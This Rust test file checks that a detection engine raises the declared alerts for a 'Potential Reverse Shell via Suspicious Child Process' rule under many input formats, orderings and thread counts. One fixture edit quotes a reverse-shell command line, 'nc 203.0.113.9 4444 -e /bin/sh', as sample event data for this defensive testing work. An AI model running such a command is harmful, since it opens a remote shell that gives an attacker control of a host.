//! The rule's own test events, in every way in which they can come: always the alerts that their generator declares.

use expect_test::expect_file;
use serde_json::{Value, json};

use crate::support::{Folder, events, gzip, program, reverse_shell, run, run_with, zstandard};

/// What is declared of an alert; times in milliseconds, which is how precise the program is.
fn declared() -> Vec<Value> {
    let text = std::fs::read_to_string(events("reverse_shell.expected.json")).unwrap();
    let alerts: Vec<Value> = serde_json::from_str(&text).unwrap();
    assert!(alerts.len() > 100, "{} alerts are declared", alerts.len());
    let alert = |alert: &Value| {
        json!({
            "rule_id": alert["rule_id"],
            "timestamp": milliseconds(alert["timestamp"].as_str().unwrap()),
            "join_keys": {"host.id": alert["host.id"], "process.entity_id": alert["process.entity_id"]},
            "events": alert["events"],
        })
    };
    alerts.iter().map(alert).collect()
}

/// A time of any zone and precision as the program writes it.
fn milliseconds(time: &str) -> String {
    let time: jiff::Timestamp = time.parse().unwrap();
    format!("{:.3}", jiff::Timestamp::from_millisecond(time.as_millisecond()).unwrap())
}

/// The same of what the program printed. `line` says which line of the log a place in the input is.
fn found(alerts: &[Value], line: impl Fn(&str, u64) -> u64) -> Vec<Value> {
    let event = |event: &Value| {
        let line = line(event["file"].as_str().unwrap(), event["line"].as_u64().unwrap());
        json!({"line": line, "id": event["id"]})
    };
    let alert = |alert: &Value| {
        json!({
            "rule_id": alert["rule_id"],
            "timestamp": alert["timestamp"],
            "join_keys": alert["join_keys"],
            "events": alert["events"].as_array().unwrap().iter().map(event).collect::<Vec<_>>(),
        })
    };
    alerts.iter().map(alert).collect()
}

fn log() -> String {
    std::fs::read_to_string(events("reverse_shell.ndjson")).unwrap()
}

#[track_caller]
fn check(arguments: &[&str], input: &[u8], line: impl Fn(&str, u64) -> u64) {
    let outcome = run_with(program().args(["run", "--format", "json"]).args(arguments), input).ended(0);
    let (found, declared) = (found(&outcome.alerts(), line), declared());
    for (found, declared) in found.iter().zip(&declared) {
        assert_eq!(found, declared, "{arguments:?}");
    }
    assert_eq!(found.len(), declared.len(), "{arguments:?}");
    // Two of the near misses have no time. One would have begun a sequence, of another rule as well; the other, which would have gone on
    // with one, is counted if one is held just then: it depends on the order.
    let notes: Vec<&str> = outcome.err.lines().filter(|line| line.starts_with("note: ")).collect();
    let untimed = notes.iter().filter(|note| note.contains(" no @timestamp"));
    assert_eq!((untimed.count(), notes.len()), (2, 2), "{arguments:?}: {}", outcome.err);
    assert!(notes[0].starts_with("note: 2 events "), "{arguments:?}: {}", outcome.err);
    let of_the_rule = |count: u8| format!("\n       {count}  Potential Reverse Shell via Suspicious Child Process\n");
    assert!((1..=2).any(|count| outcome.err.contains(&of_the_rule(count))), "{arguments:?}: {}", outcome.err);
    assert!(outcome.err.contains(&format!(", {} alerts\n", declared.len())), "{arguments:?}: {}", outcome.err);
}

fn same_line(_: &str, line: u64) -> u64 {
    line
}

#[test]
fn the_alerts_are_those_that_are_declared() {
    let path = events("reverse_shell.ndjson").display().to_string();
    check(&[&path], b"", same_line);
    check(&[&path, "--sort"], b"", same_line);
    check(&[&path, "--lateness", "5s"], b"", same_line);
    check(&[&path, "--no-limit"], b"", same_line);
}

#[test]
fn they_are_the_same_from_standard_input() {
    check(&["-"], log().as_bytes(), same_line);
    check(&["-"], &gzip(log().as_bytes()), same_line);
    check(&["-", "--sort"], log().as_bytes(), same_line);
}

#[test]
fn they_are_the_same_from_packed_files() {
    let folder = Folder::new();
    let text = log();
    // Borders of members and frames are where the packer wants them, also inside a line.
    let (first, rest) = text.as_bytes().split_at(text.len() / 3);
    let (second, third) = rest.split_at(rest.len() / 2);
    check(&[&folder.file("one.gz", gzip(text.as_bytes()))], b"", same_line);
    check(&[&folder.file("members", [gzip(first), gzip(second), gzip(third)].concat())], b"", same_line);
    check(&[&folder.file("frames.zst", [zstandard(first), zstandard(second), zstandard(third)].concat())], b"", same_line);
}

#[test]
fn they_are_the_same_whatever_ends_a_line() {
    let folder = Folder::new();
    check(&[&folder.file("crlf", log().replace('\n', "\r\n"))], b"", same_line);
    check(&[&folder.file("bom", format!("\u{feff}{}", log().trim_end()))], b"", same_line);
    check(&[&folder.file("gaps", log().replace('\n', "\n\n"))], b"", |_, line| line.div_ceil(2));
}

#[test]
fn they_are_the_same_from_two_files() {
    let folder = Folder::new();
    let text = log();
    let lines: Vec<&str> = text.lines().collect();
    let declared = declared();
    let mut hosts: Vec<&str> = declared.iter().map(|alert| alert["join_keys"]["host.id"].as_str().unwrap()).collect();
    hosts.sort_unstable();
    hosts.dedup();
    type IsInFirst<'f> = &'f dyn Fn(usize, &str) -> bool;
    let ways: [IsInFirst<'_>; 2] = [
        &|at, _| at < lines.len() / 2,
        // One file for some of the hosts, one for the others.
        &|_, line| hosts[..hosts.len() / 2].iter().any(|host| line.contains(host)),
    ];
    for (number, in_first) in ways.iter().enumerate() {
        let mut parts = [(String::new(), Vec::new()), (String::new(), Vec::new())];
        for (at, line) in lines.iter().enumerate() {
            let (text, origins) = &mut parts[usize::from(!in_first(at, line))];
            *text += &format!("{line}\n");
            origins.push(at as u64 + 1);
        }
        let paths = [0, 1].map(|part| folder.file(&format!("{number}-{part}"), &parts[part].0));
        assert!(parts.iter().all(|(_, origins)| origins.len() > 100), "both files have a share");
        let line = |file: &str, line: u64| parts[usize::from(file == paths[1])].1[line as usize - 1];
        check(&[&paths[0], &paths[1]], b"", line);
        check(&[&paths[0], &paths[1], "--sort"], b"", line);
    }
}

#[test]
fn a_log_in_disorder_gives_the_same_alerts_when_it_is_sorted() {
    let text = log();
    let lines: Vec<&str> = text.lines().collect();
    let mut order: Vec<usize> = (0..lines.len()).collect();
    let mut state = 1_u64;
    for at in (1..order.len()).rev() {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        order.swap(at, (state >> 33) as usize % (at + 1));
    }
    // Where nothing else orders two events, their place does: events of one host and millisecond keep theirs.
    let document = |line: &str| -> Value { serde_json::from_str(line).unwrap() };
    let moments: Vec<String> = lines
        .iter()
        .map(|line| {
            let document = document(line);
            let source = if document["_source"].is_object() { &document["_source"] } else { &document };
            source["@timestamp"].as_str().map_or_else(String::new, milliseconds)
        })
        .collect();
    let mut places: std::collections::HashMap<&str, Vec<usize>> = std::collections::HashMap::new();
    for (place, at) in order.iter().enumerate() {
        places.entry(&moments[*at]).or_default().push(place);
    }
    for group in places.values() {
        let mut members: Vec<usize> = group.iter().map(|place| order[*place]).collect();
        members.sort_unstable();
        for (place, member) in group.iter().zip(members) {
            order[*place] = member;
        }
    }
    let folder = Folder::new();
    let shuffled: String = order.iter().map(|at| format!("{}\n", lines[*at])).collect();
    assert_ne!(shuffled, text);
    check(&[&folder.file("shuffled", shuffled), "--sort"], b"", |_, line| order[line as usize - 1] as u64 + 1);
}

#[test]
fn a_run_says_the_same_whatever_the_threads() {
    let folder = Folder::new();
    let (text, bad) = (log(), "nope\n{\"process\":{\"pid\":\"many\"}}\n[]\n");
    let (first, second) = text.split_at(text.lines().take(200).map(|line| line.len() + 1).sum());
    let many: String = (0..3000).map(|at| reverse_shell(&format!("h{}", at % 50), at)).collect();
    let plain = folder.file("plain", format!("{bad}{text}{bad}"));
    let packed = folder.file("packed.gz", gzip(format!("{first}{bad}").as_bytes()));
    let frames = folder.file("frames.zst", zstandard(format!("{second}{bad}").as_bytes()));
    let short = folder.file("short.gz", &gzip(many.as_bytes())[..20_000]);
    let many = folder.file("many", many);
    let missing = folder.path().join("missing").display().to_string();
    let runs: [&[&str]; 6] = [
        &[&plain],
        &[&packed, &frames],
        &[&plain, &frames, &missing, &packed, &short, &many],
        &[&many, "--no-limit", "--sort"],
        &[&short, &plain, "--sort"],
        &["-"],
    ];
    for arguments in runs {
        let with = |threads: &str| {
            let mut command = program();
            command.args(["run", "--format", "json", "--threads", threads]).args(arguments);
            let outcome = run_with(&mut command, &std::fs::read(&plain).unwrap());
            let err: Vec<String> = outcome.err.lines().filter(|line| !line.contains(" a second)")).map(str::to_owned).collect();
            (outcome.code, outcome.out, err)
        };
        let one = with("1");
        assert!(one.1.lines().count() > 50, "{arguments:?}: {:?}", one.2);
        for threads in ["2", "3", "8"] {
            assert_eq!(with(threads), one, "{threads} threads, {arguments:?}");
        }
    }
}

#[test]
fn an_alert_has_the_keys_that_are_promised() {
    let folder = Folder::new();
    let path = folder.file("log.ndjson", reverse_shell("web-01", 1));
    let outcome = run(&["run", &path, "--format", "json"]).ended(0);
    let [alert] = &outcome.alerts()[..] else { panic!("{}", outcome.out) };
    let id = alert["alert_id"].as_str().unwrap();
    assert!(id.len() == 64 && id.bytes().all(|byte| byte.is_ascii_hexdigit()), "{id}");
    let expected = json!({
        "alert_id": id,
        "rule_id": "76e4d92b-61c1-4a95-ab61-5fd94179a1ee",
        "rule_name": "Potential Reverse Shell via Suspicious Child Process",
        "severity": "medium",
        "risk_score": 47,
        "timestamp": "2026-03-02T08:00:01.140Z",
        "join_keys": {"host.id": "web-01", "process.entity_id": "e1"},
        "events": [
            {"file": path, "line": 1, "id": "web-01-1-1", "timestamp": "2026-03-02T08:00:01.000Z"},
            {"file": path, "line": 2, "id": "web-01-1-2", "timestamp": "2026-03-02T08:00:01.140Z"},
        ],
    });
    assert_eq!(alert, &expected);
}

#[test]
fn people_see_what_happened_at_a_glance() {
    let folder = Folder::new();
    folder.file(
        "log.ndjson",
        reverse_shell("web-01", 1)
            + &reverse_shell("db-02", 61).replace(r#","command_line":"nc 203.0.113.9 4444 -e /bin/sh""#, ""),
    );
    let outcome = run_with(program().current_dir(folder.path()).args(["run", "log.ndjson"]), b"").ended(0);
    expect_file!["alerts.txt"].assert_eq(&outcome.out);
}

#[test]
fn a_rule_is_limited_and_duplicates_are_dropped_unless_all_are_wanted() {
    let folder = Folder::new();
    // 120 in one interval of 5 minutes, then one in the next; the first ones once more.
    let log: String = (0..120).map(|at| reverse_shell(&format!("h{at}"), at)).collect();
    let path = folder.file("log", log + &reverse_shell("late", 310) + &reverse_shell("h0", 0) + &reverse_shell("late", 310));
    let outcome = run(&["run", &path, "--format", "json", "--sort"]).ended(0);
    assert_eq!(outcome.alerts().len(), 101);
    assert!(
        outcome.err.contains("note: 20 alerts were held back over their rule's `max_signals`; --no-limit"),
        "{}",
        outcome.err
    );
    assert!(outcome.err.contains("      20  Potential Reverse Shell via"), "{}", outcome.err);
    let outcome = run(&["run", &path, "--format", "json", "--sort", "--no-limit"]).ended(0);
    assert_eq!(outcome.alerts().len(), 121, "the copies displace, and complete, the same sequences");
    // A log that is read twice.
    let path = folder.file("small", reverse_shell("h", 1));
    let outcome = run(&["run", "--format", "json", &path, &path, "--lateness", "0"]).ended(0);
    assert_eq!(outcome.alerts().len(), 1);
}
